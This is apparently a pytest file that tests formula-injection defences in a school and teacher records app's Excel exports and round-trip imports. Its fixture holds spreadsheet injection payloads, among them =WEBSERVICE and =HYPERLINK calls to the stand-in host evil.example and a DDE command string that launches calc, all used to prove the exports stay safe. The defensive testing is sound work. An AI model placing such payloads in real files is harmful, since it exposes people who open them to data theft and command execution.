"""Every export writes text as text (a name beginning with “=” never becomes a formula) and
every import kind's export reads back with nothing changed, names beginning with = + - @
included."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from db.importers import IMPORTERS as IMPORTS
from db.models import (
    Cluster,
    Exemption,
    School,
    Teacher,
    TeacherDesignation,
    TrainingRecord,
    VisitParticipant,
)
from db.store import Store
from desktop.cli import main
from reports.exporters import EXPORTERS as EXPORTS
from reports.xlsx import FORMULA_STARTS

SCHOOL_NAME = '=HYPERLINK("http://evil.example/?q","点我")'
CLUSTER_NAME = '=WEBSERVICE("http://evil.example/")集团'
TEACHER_NAME = "@SUM(1+1)"
MINUS_TEACHER = "-张三"
VISITOR_NAME = "+1+2"
EVIDENCE = "=1+1 诊断证明"
COURSE = "=CMD|' /c calc'!A0 国培计划"
YEAR = "2026"  # the demo's approved plan year
ARGS = {"plan": ["--year", YEAR], "needs": ["--year", YEAR], "exchanges": ["--year", YEAR]}


@pytest.fixture
def hostile_store(demo_store: Store) -> Store:
    """The demo with names and texts a formula-injection attacker would type."""
    with demo_store.write("测试：以 = + - @ 开头的名称") as s:
        rural = s.scalars(select(School).where(School.location == "乡村").order_by(School.code)).first()
        rural.name = SCHOOL_NAME
        rural.legal_entity = SCHOOL_NAME
        s.scalars(select(Cluster).order_by(Cluster.name)).first().name = CLUSTER_NAME
        teachers = s.scalars(select(Teacher).order_by(Teacher.id_number).limit(2)).all()
        teachers[0].name, teachers[1].name = TEACHER_NAME, MINUS_TEACHER
        s.scalars(select(VisitParticipant).order_by(VisitParticipant.id)).first().name = VISITOR_NAME
        exemption = s.scalars(select(Exemption).order_by(Exemption.id)).first()
        if exemption is not None:
            exemption.evidence = EVIDENCE
        # The demo keeps no training records or designations: one each, the name an attacker's.
        s.add(TrainingRecord(teacher_id=teachers[0].id, completed_on=dt.date(2024, 7, 1),
                             course=COURSE, hours=60, special=True))
        s.add(TeacherDesignation(teacher_id=teachers[1].id, kind="种子教师",
                                 start=dt.date(2024, 9, 1)))
    return demo_store


def export(store: Store, kind: str, path: Path) -> Path:
    assert main(["--db", store.location, "export", kind, str(path), *ARGS.get(kind, [])]) == 0
    return path


@pytest.mark.parametrize("kind", sorted(EXPORTS))
def test_no_export_writes_a_formula(hostile_store, tmp_path, capsys, kind):
    path = export(hostile_store, kind, tmp_path / f"{kind}.xlsx")
    risky = []
    for sheet in load_workbook(path):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
                    risky.append(cell.value)
    # The exports that show the names above really carried one (the check above saw it).
    shown = {"schools": SCHOOL_NAME, "clusters": CLUSTER_NAME, "statistics": CLUSTER_NAME, "teachers": TEACHER_NAME,
             "visits": VISITOR_NAME, "exemptions": EVIDENCE, "training": COURSE, "designations": MINUS_TEACHER}
    if kind in shown:
        assert any(shown[kind] in value for value in risky), risky[:5]


def test_openpyxl_would_have_written_these_as_formulas(tmp_path):
    """Why the export helper exists: plain openpyxl turns the school name into a formula."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append([SCHOOL_NAME])
    wb.save(tmp_path / "plain.xlsx")
    assert load_workbook(tmp_path / "plain.xlsx").active["A1"].data_type == "f"


@pytest.mark.parametrize("kind", sorted(IMPORTS))
def test_every_export_imports_back_unchanged(hostile_store, tmp_path, capsys, kind):
    path = export(hostile_store, kind, tmp_path / f"{kind}.xlsx")
    capsys.readouterr()
    assert main(["--db", hostile_store.location, "import", kind, str(path), "--dry-run", "--json"]) == 0
    result = json.loads(capsys.readouterr().out)
    assert result["changes"] == []
    assert result.get("rows", 1) > 0 and result.get("added", 0) == 0 and result.get("inserted", 0) == 0


def test_schools_round_trip_keeps_legal_entity_and_central_school(demo_store, tmp_path, capsys):
    """Export from one database, import into an empty one: every field the import reads survives."""
    path = export(demo_store, "schools", tmp_path / "schools.xlsx")
    fresh = tmp_path / "fresh.db"
    assert main(["--db", str(fresh), "import", "schools", str(path)]) == 0

    def fields(store: Store) -> dict[str, tuple]:
        central = School.__table__.alias("central")
        with store.read() as s:
            rows = s.execute(select(School.code, School.name, School.legal_entity, central.c.code, School.stage,
                                    School.location, School.run_by, School.students, School.classes,
                                    School.land_area, School.is_weak, School.latitude, School.longitude)
                             .outerjoin(central, central.c.id == School.central_school_id))
            return {r[0]: tuple(r[1:]) for r in rows}

    copied = Store.open(str(fresh))
    try:
        before, after = fields(demo_store), fields(copied)
    finally:
        copied.dispose()
    assert after == before
    assert any(v[1] for v in before.values()) and any(v[2] for v in before.values())  # the demo has both
